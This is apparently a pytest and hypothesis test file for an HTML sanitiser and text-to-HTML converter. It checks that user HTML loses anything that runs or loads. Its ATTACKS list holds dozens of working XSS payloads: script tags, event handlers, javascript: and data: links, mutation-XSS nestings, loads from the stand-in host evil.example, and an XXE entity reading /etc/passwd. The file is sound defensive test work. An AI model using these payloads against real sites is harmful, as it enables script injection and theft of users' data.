"""HTML from people: nothing that runs, loads or dresses up passes; the words do."""

from __future__ import annotations

import html as entities
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deskhand.kit.html import clean, from_text, to_text

_PLAIN = {
    "b", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "hr", "i", "ins", "li", "ol", "p",
    "pre", "s", "small", "span", "strong", "sub", "sup", "table", "tbody", "thead", "tr", "u", "ul",
}  # fmt: skip
HARMLESS = {tag: frozenset[str]() for tag in _PLAIN} | {
    "a": {"href", "title", "rel"}, "abbr": {"title"}, "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"},
}  # fmt: skip
"""Every tag that may come out, with its attributes; written out again, so that a wider list shows here."""

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0c>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif' width=1>",
    "<img src=`javascript:alert(1)`>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<b/onclick=alert(1)>x</b>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=//evil.example></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open>x</dialog>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://desk.example/1'>x</a>",
    "<a target=_blank ping=//evil.example href='https://example.com'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<a id=submit name=submit href='https://example.com' class=button>x</a>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><slot onslotchange=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi><mglyph><svg><mtext><textarea><a title='</textarea><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><desc><noscript></noscript></desc><style><a title='</style><img src onerror=alert(1)>'></style>",
    "<table><caption><svg><p><style><a title='</style><img src onerror=alert(1)>'></table>",
    "<custom-element onclick=alert(1) is=x>y</custom-element>",
    "<a href=https://example.com\x00 onclick=alert(1)>x</a>",
    "<p title=\"'><img src=x onerror=alert(1)>\">x</p>",
    "<a title='x\" onmouseover=\"alert(1)' href=https://example.com>x</a>",
    "<b" + " x" * 2000 + " onclick=alert(1)>x</b>",
    "<div>" * 2000 + "<script>alert(1)</script>",
]  # fmt: skip


class Reader(HTMLParser):
    """Collects every tag with its attributes, and whatever is neither tag nor text."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.source = text
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.other: list[str] = []
        self.words = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.words += "\n" if tag in {"p", "br"} else ""
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)


def dangers(text: str) -> list[str]:
    """Name whatever in an HTML text is not on the list."""
    read = Reader(text)
    found = [f"markup {other}" for other in read.other]
    for tag, attributes in read.tags:
        if tag not in HARMLESS:
            found.append(f"<{tag}>")
            continue
        found += [f"<{tag} {name}>" for name in attributes if name not in HARMLESS[tag]]
        address = attributes.get("href", "")
        if urlsplit(address).scheme not in {"", "http", "https", "mailto", "tel"}:
            found.append(f"href={address}")
        if tag == "a" and attributes.get("rel") != "noopener noreferrer nofollow":
            found.append(f"rel={attributes.get('rel')}")
    return found


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack[:40].encode("unicode_escape").decode())
def test_nothing_that_runs_gets_through(attack: str) -> None:
    texts = (attack, f"<p>before {attack} after</p>", f"<table><tr><td>{attack}", f"<pre>{attack}")
    assert any(map(dangers, texts)), "the attack is none, so the test would prove nothing"
    for text in texts:
        kept = Reader(clean(text))
        assert not dangers(kept.source), kept.source
        again = Reader(clean(kept.source))  # a browser that reads it may move things, and must not find new ones
        assert sorted(map(str, again.tags)) == sorted(map(str, kept.tags)), kept.source
        assert sorted(again.words) == sorted(kept.words), kept.source


_PIECES = [*ATTACKS[:-2], "<p>", "</p>", "<b>x", "</b>", "words ", "&lt;img src=x onerror=alert(1)&gt;", *"'\"<>"]


@given(st.lists(st.sampled_from(_PIECES), max_size=8).map("".join))
def test_no_mixture_of_attacks_gets_through(text: str) -> None:
    kept = clean(text)
    assert not dangers(kept)
    assert not dangers(clean(kept))


@given(st.lists(st.sampled_from(_PIECES), max_size=8).map("".join))
def test_the_words_of_an_attack_are_words(text: str) -> None:
    assert not dangers(from_text(to_text(text)))


@pytest.mark.parametrize(
    "kept",
    [
        "<p>Hello <b>Kim</b>,<br>see <i>below</i>.</p>",
        "<ul><li>one</li><li>two</li></ul>",
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
        "<pre><code>a &lt; b &amp;&amp; c</code></pre>",
        "<blockquote><p>quoted</p></blockquote>",
    ],
)
def test_what_is_harmless_stays_as_it_is(kept: str) -> None:
    assert clean(kept) == kept


@pytest.mark.parametrize("address", ["https://example.com/a?b=c", "http://x.test", "mailto:a@b.test", "tel:+49301234"])
def test_links_that_lead_somewhere_stay_and_vouch_for_nothing(address: str) -> None:
    [(tag, attributes)] = Reader(clean(f'<a href="{address}" onclick="x">go</a>')).tags
    assert (tag, attributes) == ("a", {"href": address, "rel": "noopener noreferrer nofollow"})


def test_what_only_machines_read_goes_with_its_content() -> None:
    assert clean("a<script>b</script>c<style>d</style>e<template>f</template>g<title>h</title>i") == "acegi"


# --- from plain text -----------------------------------------------------------------------------------------

_TEXTS = st.text(st.characters(exclude_categories=["Cs", "Cc"]) | st.sampled_from("\n\t<>&\"' "), max_size=300)
_LINKISH = st.lists(
    st.sampled_from(["http://", "https://", "javascript:", "example.com", "/a?b=1&c=2", *".)\"'<> \n"]),
    max_size=12,
).map("".join)  # fmt: skip


@given(_TEXTS | _LINKISH)
def test_a_plain_text_says_as_html_what_it_said(text: str) -> None:
    made = from_text(text)
    assert Reader(made).words.split() == text.split()
    assert {tag for tag, _ in Reader(made).tags} <= {"p", "br", "a"}
    assert not dangers(made)


@given(_LINKISH)
def test_links_are_made_of_web_addresses_alone(text: str) -> None:
    for tag, attributes in Reader(from_text(text)).tags:
        if tag == "a":
            assert attributes["href"].startswith(("http://", "https://"))
            assert attributes["href"] in text


@pytest.mark.parametrize(
    ("text", "made"),
    [
        ("", ""),
        ("\n \n\n", ""),
        ("one\ntwo", "<p>one<br>two</p>"),
        ("one\n\n \n\ntwo\n", "<p>one</p><p>two</p>"),
        ("1 < 2 & \"3\" > '2'", "<p>1 &lt; 2 &amp; &quot;3&quot; &gt; &#x27;2&#x27;</p>"),
        ("javascript:alert(1) ftp://x", "<p>javascript:alert(1) ftp://x</p>"),
    ],
)
def test_plain_text_becomes_paragraphs(text: str, made: str) -> None:
    assert from_text(text) == made


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("see https://a.test/b.", "https://a.test/b"),
        ("(https://a.test/b)", "https://a.test/b"),
        ("https://a.test/?q=1&r=2, then", "https://a.test/?q=1&amp;r=2"),
        ('"http://a.test"', "http://a.test"),
        ("HTTPS only: https://a.test/x\ny", "https://a.test/x"),
    ],
)
def test_an_address_ends_where_its_sentence_goes_on(text: str, address: str) -> None:
    assert f'<a href="{address}" rel="noopener noreferrer nofollow">{address}</a>' in from_text(text)


# --- to plain text -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>one</p><p>two</p>", "one\ntwo"),
        ("a<br>b<br/>c<hr>d", "a\nb\nc\nd"),
        ("<ul><li>one</li><li>two</li></ul><p>three</p>", "one\ntwo\n\nthree"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "ab\nc"),
        ("1 &lt; 2 &amp;&amp; &quot;x&quot;&nbsp;y", '1 < 2 && "x"\xa0y'),
        ("<div>a</div>\n\n\n\n\n<div>b</div>", "a\n\nb"),
        ("<script>x</script><style>y</style>", ""),
        ("<b></b> \n ", ""),
    ],
)
def test_the_words_stay_one_line_a_block(html: str, text: str) -> None:
    assert to_text(html) == text


@given(_TEXTS)
def test_there_and_back_the_words_are_the_same(text: str) -> None:
    assert to_text(from_text(text)).split() == text.split()
    assert to_text(clean(from_text(text))).split() == text.split()


@given(_TEXTS)
def test_an_escaped_text_is_taken_literally(text: str) -> None:
    assert to_text(entities.escape(text)).split() == text.split()


def test_long_texts_take_no_long_time() -> None:
    for text in ("http://" * 14_000, "\n" * 100_000, "http://x" + "." * 100_000, "<" * 100_000, "\n \t" * 33_000):
        assert to_text(clean(from_text(text))).split() == text.split()


def test_a_link_leads_out_and_never_to_a_place_of_the_desk_itself() -> None:
    for address in ("/sign-out", "//desk.test/a", "?a=1", "admin/support", "#top"):
        assert clean(f'<a href="{address}">x</a>') == '<a rel="noopener noreferrer nofollow">x</a>'
    assert 'href="https://example.test/a"' in clean('<a href="https://example.test/a">x</a>')
